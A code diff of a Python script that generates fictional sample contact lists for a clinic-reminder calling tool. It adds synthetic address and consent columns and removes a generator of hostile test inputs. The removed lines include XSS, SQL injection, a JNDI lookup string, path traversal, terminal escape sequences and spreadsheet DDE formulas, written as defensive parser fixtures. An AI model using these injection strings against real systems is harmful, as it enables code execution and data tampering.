@@ -1,8 +1,11 @@
-"""Writes ``sample_lists/`` anew: ``python tools/make_sample_lists.py [FOLDER]``.
+"""Writes ``sample_lists/`` anew, all but the hostile one: ``python tools/make_sample_lists.py [FOLDER]``.
 
 The lists are committed; this script is how they came to be, and a test holds the two together. All people are
 invented and all numbers are NPA-555-01xx, which is set aside for fiction in every area code. The last two digits 10
 to 23 fix what the fake backend's callee does; the big lists hold only a handful of those, so that the scenario decides.
+
+Addresses are the ZIP code and state of the number's own area, but for some people who moved and a few rows that were
+mixed up. Days of consent lie before 2025, so that a day of any later year can be simulated.
 """
 
 from __future__ import annotations
@@ -29,6 +32,25 @@ AREA_CODES = {
     "America/Anchorage": ["907"],
     "Pacific/Honolulu": ["808"],
 }
+
+ADDRESSES = {
+    "202": ("DC", "20001 20009 20016"), "205": ("AL", "35203 35205 35222"),
+    "206": ("WA", "98101 98118 98144"), "207": ("ME", "04101 04330 04401"), "208": ("ID", "83702 83704 83814"),
+    "212": ("NY", "10001 10016 10025"), "213": ("CA", "90012 90017 90026"), "214": ("TX", "75201 75204 75219"),
+    "215": ("PA", "19103 19125 19147"), "216": ("OH", "44106 44113 44120"), "303": ("CO", "80202 80205 80210"),
+    "305": ("FL", "33101 33125 33139"), "307": ("WY", "82001 82601"), "312": ("IL", "60601 60607 60611"),
+    "314": ("MO", "63101 63110 63118"), "360": ("WA", "98501 98660 98225"), "404": ("GA", "30303 30309 30312"),
+    "405": ("OK", "73102 73106 73112"), "406": ("MT", "59601 59801 59715"), "412": ("PA", "15213 15222 15232"),
+    "414": ("WI", "53202 53207 53212"), "415": ("CA", "94103 94110 94117"), "480": ("AZ", "85201 85251 85281"),
+    "503": ("OR", "97201 97214 97219"), "504": ("LA", "70112 70118 70130"), "505": ("NM", "87102 87106 87501"),
+    "512": ("TX", "78701 78704 78745"), "515": ("IA", "50309 50312 50010"), "520": ("AZ", "85701 85705 85719"),
+    "602": ("AZ", "85003 85004 85016"), "612": ("MN", "55401 55408 55414"), "615": ("TN", "37203 37208 37211"),
+    "617": ("MA", "02115 02134 02139"), "619": ("CA", "92101 92104 92113"), "702": ("NV", "89101 89104 89119"),
+    "704": ("NC", "28202 28205 28209"), "713": ("TX", "77002 77006 77019"), "801": ("UT", "84101 84105 84111"),
+    "808": ("HI", "96720 96813 96817"), "860": ("CT", "06103 06105 06106"), "907": ("AK", "99501 99503 99801"),
+    "916": ("CA", "95814 95816 95820"), "919": ("NC", "27601 27605 27701"),
+}  # fmt: skip
+"""State and some ZIP codes of each area code."""
 
 FIXED = range(10, 24)
 """Last two digits that fix the outcome."""
@@ -65,6 +87,49 @@ IN_OWN_SCRIPT = (
 )
 
 LANGUAGES = ("en", "en", "en", "en", "en", "en", "es", "es", "es", "zh", "vi", "ko", "ar", "hi", "tl")
+
+
+class Patients:
+    """Address and consent of a clinic's patients, from a source of chance that numbers and names know nothing of."""
+
+    def __init__(self) -> None:
+        self._chance = random.Random("patients")
+
+    def address(self, number: str, position: int) -> tuple[str, str]:
+        """ZIP code and state. Now and then none, one of another state, or two that do not fit together."""
+        chance = self._chance
+        state, codes = ADDRESSES[number[:3]]
+        code = chance.choice(codes.split())
+        other_state, other_codes = ADDRESSES[chance.choice(sorted(ADDRESSES))]
+        other = chance.choice(other_codes.split())
+        match position % 60:
+            case 7 | 37 if int(number[-2:]) not in FIXED:  # moved, and kept the number
+                return other, other_state
+            case 19:
+                return "", ""
+            case 29:
+                return "", state
+            case 44:
+                return f"{code}-{chance.randrange(1000, 10_000)}", state
+            case 53:  # two rows of the clinic's table were mixed up
+                return code, other_state
+        return (code.lstrip("0") if position % 4 == 0 else code), state  # as spreadsheets do with numbers
+
+    def consent(self, number: str, position: int) -> tuple[str, str, str]:
+        """Word, day and source. Numbers with a fixed outcome have consented, so that they show it."""
+        chance = self._chance
+        day = f"{chance.choice((2023, 2024))}-{chance.randrange(1, 13):02}-{chance.randrange(1, 29):02}"
+        written, oral = chance.choice(("intake form", "web form", "patient portal")), chance.choice(("phone", "desk"))
+        if int(number[-2:]) in FIXED:
+            return "written", day, written
+        match position % 42:
+            case 11:
+                return "none", day, oral
+            case 25:
+                return "", "", ""
+            case among if among % 6 == 4:
+                return "oral", day, oral
+        return "written", day, written
 
 
 class Numbers:
@@ -113,8 +178,8 @@ def csv_text(rows: Iterable[Sequence[str]], delimiter: str = ",") -> str:
 
 
 def clinic_reminders() -> bytes:
-    """300 patients in every zone of the fifty states; a few numbers with a fixed outcome."""
-    chance = random.Random("clinic_reminders")
+    """300 patients in every zone of the fifty states, most with their consent; a few numbers with a fixed outcome."""
+    chance, patients = random.Random("clinic_reminders"), Patients()
     numbers, names = Numbers(chance), people(chance)
     shares = {
         "America/New_York": 103,
@@ -131,13 +196,15 @@ def clinic_reminders() -> bytes:
     digits += [numbers.free(zone) for zone in spread(chance, shares)]
     chance.shuffle(digits)
     doctors = [f"Dr. {chance.choice(FAMILY)}" for _ in range(8)]
-    rows: list[Sequence[str]] = [("phone", "name", "appointment", "doctor", "language")]
+    reminder = ("phone", "name", "appointment", "doctor", "language")
+    rows: list[Sequence[str]] = [(*reminder, "zip", "state", "consent", "consent_date", "consent_source")]
     for position, number in enumerate(digits):
         name = IN_OWN_SCRIPT[position // 31] if position % 31 == 30 else next(names)
         day = chance.choice(("Monday", "Tuesday", "Wednesday", "Thursday", "Friday"))
         hour, minute = chance.randrange(8, 17), chance.choice(("00", "15", "30", "45"))
         shape = f"({number[:3]}) {number[3:6]}-{number[6:]}"
-        rows.append((shape, name, f"{day} {hour}:{minute}", chance.choice(doctors), chance.choice(LANGUAGES)))
+        reminder = (shape, name, f"{day} {hour}:{minute}", chance.choice(doctors), chance.choice(LANGUAGES))
+        rows.append((*reminder, *patients.address(number, position), *patients.consent(number, position)))
     return csv_text(rows).encode()
 
 
@@ -150,7 +217,8 @@ def survey_small() -> bytes:
     for zone in spread(chance, shares):
         number = numbers.free(zone)
         given, family = next(names).split(" ")
-        bought = f"2026-{chance.randrange(1, 10):02}-{chance.randrange(1, 29):02}"
+        month, day = chance.randrange(1, 10) + 5, chance.randrange(1, 29)
+        bought = f"{2025 + month // 13}-{(month - 1) % 12 + 1:02}-{day:02}"
         rows.append((given, family, f"+1-{number[:3]}-{number[3:6]}-{number[6:]}", bought, chance.choice(LANGUAGES)))
     return csv_text(rows).encode()
 
@@ -201,121 +269,11 @@ def numbers() -> bytes:
     return csv_text(rows).encode()
 
 
-HOSTILE_HEADER = ("expected", "phone", "name", "timezone", "latitude", "longitude", "note")
-
-HOSTILE_NAMES = (
-    ("[/bold][red on white]Ann[/]", "console markup"),
-    ("[@click=app.quit]Click me[/]", "console markup with an action"),
-    ("<script>alert(1)</script>", "HTML"),
-    ("{{7*7}} ${jndi:ldap://example.invalid/a}", "templates"),
-    ("%s%s%n {0} {name}", "format strings"),
-    ("Robert'); DROP TABLE contacts;--", "SQL"),
-    ("../../etc/passwd", "a path"),
-    ("\x1b]52;c;ZXZpbA==\x07Carla", "writes to the clipboard (OSC 52)"),
-    ("\x1b[2J\x1b[H\x1b[31mDan", "clears the screen"),
-    ("\x1b]0;owned\x1b\\Eve", "sets the window title"),
-    ("\x9b31mFay\x90q\x9c", "escape sequences in one byte (C1)"),
-    ("Gus\x07\x08\x08\x08\x7f", "bell, backspaces, delete"),
-    ("Hal\x00Hal", "NUL"),
-    ('=HYPERLINK("http://example.invalid","Ida")', "formula"),
-    ("+1+1|' /C calc'!A0", "formula with DDE"),
-    ("-2+3", "formula"),
-    ("@SUM(A1:A9)", "formula"),
-    ("\t=1+1", "formula behind a tab"),
-    ("＝1+1", "formula with a full-width sign"),
-    ("Jo\u202e4310-555 )212(", "right-to-left override"),
-    ("\u2066Kim\u2069 \u200f\u200eLi", "bidi isolates and marks"),
-    ("L" + "\u0335\u0321\u0322\u0327\u0328\u0334" * 8 + "iz", "combining marks without end"),
-    ("\u0301\u0301\u0301", "combining marks over nothing"),
-    ("Max" + "\u200d" * 50 + "\u200b\ufeff\u2060", "joiners and zero-width spaces"),
-    ("Ned " * 2500, "10 kB of name"),
-    ("👨‍👩‍👧‍👦 🏳️‍🌈 🇺🇸", "emoji of several characters"),
-    ("王小明 محمد ยายี", "wide letters, right to left, marks"),
-    ('Olive "Ollie" O\'Hara, Jr.; | x', "quotes and every delimiter"),
-    ("Pat\nQuinn\r\nRoe", "line breaks"),
-    ("Sam\u2028Sue\u0085Tom", "other line breaks"),
-    ("", "no name"),
-    (" \u00a0\u3000 ", "a name of spaces"),
-    ("\U000e0041\U000e0042Uma\ue000\ufff9", "tags, private use, annotations"),
-)
-
-HOSTILE_NUMBERS = (
-    ("２１２５５５０１４３", "full-width digits"),
-    ("٢١٢٥٥٥٠١٤٤", "Arabic digits"),
-    ("(212) 555-0145 ext. 12", "an extension"),
-    ("212.555.0146x9", "an extension"),
-    ("tel:+1-212-555-0147", "a tel: URI"),
-    ("212\u00a0555\u20110148", "no-break space and hyphen"),
-    ("\u202d2125550149\u202c", "wrapped in bidi marks by an address book"),
-    ("'2125550150", "a spreadsheet's apostrophe"),
-    ("2125550151.0", "through a numeric column"),
-    ("Evenings: 212 555 0152", "a word before it"),
-)
-
-HOSTILE_REJECTS = (
-    ("no_number", "", "", "", "", "no number"),
-    ("no_number", "n/a", "", "", "", "no number, in words"),
-    ("not_a_number", "call me", "", "", "", "no number at all"),
-    ("not_a_number", "2.125550153e+09", "", "", "", "a spreadsheet's rounding"),
-    ("not_a_number", "2.12556E+09", "", "", "", "a spreadsheet's rounding, digits lost"),
-    ("not_a_number", "########", "", "", "", "a column that was too narrow"),
-    ("not_a_number", "#REF!", "", "", "", "a spreadsheet's error"),
-    ("not_a_number", "212 555 HOME", "", "", "", "letters"),
-    ("not_a_number", "212 555 0153 or 212 555 0154", "", "", "", "two numbers"),
-    ("not_a_number", "=cmd|' /C calc'!A0", "", "", "", "a formula"),
-    ("not_a_number", "\x1b]52;c;ZXZpbA==\x07", "", "", "", "an escape sequence"),
-    ("invalid_number", "555-0153", "", "", "", "no area code"),
-    ("invalid_number", "212 555 015", "", "", "", "too short"),
-    ("invalid_number", "2125550153" * 3, "", "", "", "too long"),
-    ("invalid_number", "(000) 555-0153", "", "", "", "no such area code"),
-    ("invalid_number", "+999 555 0153", "", "", "", "no such country"),
-    ("not_callable", "800-555-0199", "", "", "", "toll-free"),
-    ("not_callable", "900-555-0153", "", "", "", "premium rate"),
-    ("not_callable", "500-555-0153", "", "", "", "a personal number"),
-    ("bad_zone", "212 555 0153", "America/New_Yrok", "", "", "a slip"),
-    ("bad_zone", "212 555 0153", "EST", "", "", "an abbreviation"),
-    ("bad_zone", "212 555 0153", "Mars/Olympus_Mons", "", "", "no zone of this planet"),
-    ("bad_zone", "212 555 0153", "../../etc/localtime", "", "", "a path"),
-    ("bad_coordinates", "212 555 0153", "", "91", "0", "beyond the pole"),
-    ("bad_coordinates", "212 555 0153", "", "40.7", "", "half a point"),
-    ("bad_coordinates", "212 555 0153", "", "nan", "inf", "no numbers"),
-    ("bad_coordinates", "212 555 0153", "", "0", "0", "nowhere"),
-)
-
-
-def hostile() -> bytes:
-    """Everything nasty that a list can hold; the first column says what each row should become."""
-    rows: list[Sequence[str]] = [HOSTILE_HEADER]
-    for position, (name, note) in enumerate(HOSTILE_NAMES):
-        rows.append(("contact", f"303-555-01{position + 30:02}", name, "", "", "", note))
-    rows += [("contact", phone, "Vera", "", "", "", note) for phone, note in HOSTILE_NUMBERS]
-    rows += [
-        ("contact", "212-555-0160", "Wim", "america/denver", "", "", "a zone in lower case"),
-        ("duplicate", "+1 (212) 555-0160", "Wim", "", "", "", "the same number, written otherwise"),
-        ("duplicate", "12125550160", "Wim", "Mars/Olympus_Mons", "", "", "once more, and wrong besides"),
-    ]
-    for fault, phone, zone, latitude, longitude, note in HOSTILE_REJECTS:
-        rows.append((fault, phone, "\x1b[31mXena[/]", zone, latitude, longitude, note))
-    rows += [
-        ("contact", "212-555-0161", "Yan"),
-        ("contact", "212-555-0162", "Zed", "", "", "", "more cells than columns", "one", "two"),
-        ("wrong_columns",),
-        ("wrong_columns", "Smith", " John", "212-555-0163", "", "", "", "a comma without quotation marks"),
-        ("wrong_columns", "212-555-0164", "212-555-0165", "", "", "", "", "two numbers in a shifted row"),
-        (),
-        ("", "", "", "", "", "", ""),
-    ]
-    unclosed = b'wrong_columns,212-555-0166,"Zoe,,,,a quotation mark that is never closed\n'
-    after = csv_text([("contact", "212-555-0167", "the last row is not swallowed", "", "", "", "")]).encode()
-    return csv_text(rows).encode() + unclosed + after
-
-
 LISTS = {
     "clinic_reminders.csv": clinic_reminders,
     "survey_small.csv": survey_small,
     "arrears.csv": arrears,
     "numbers.csv": numbers,
-    "hostile.csv": hostile,
 }
 
 
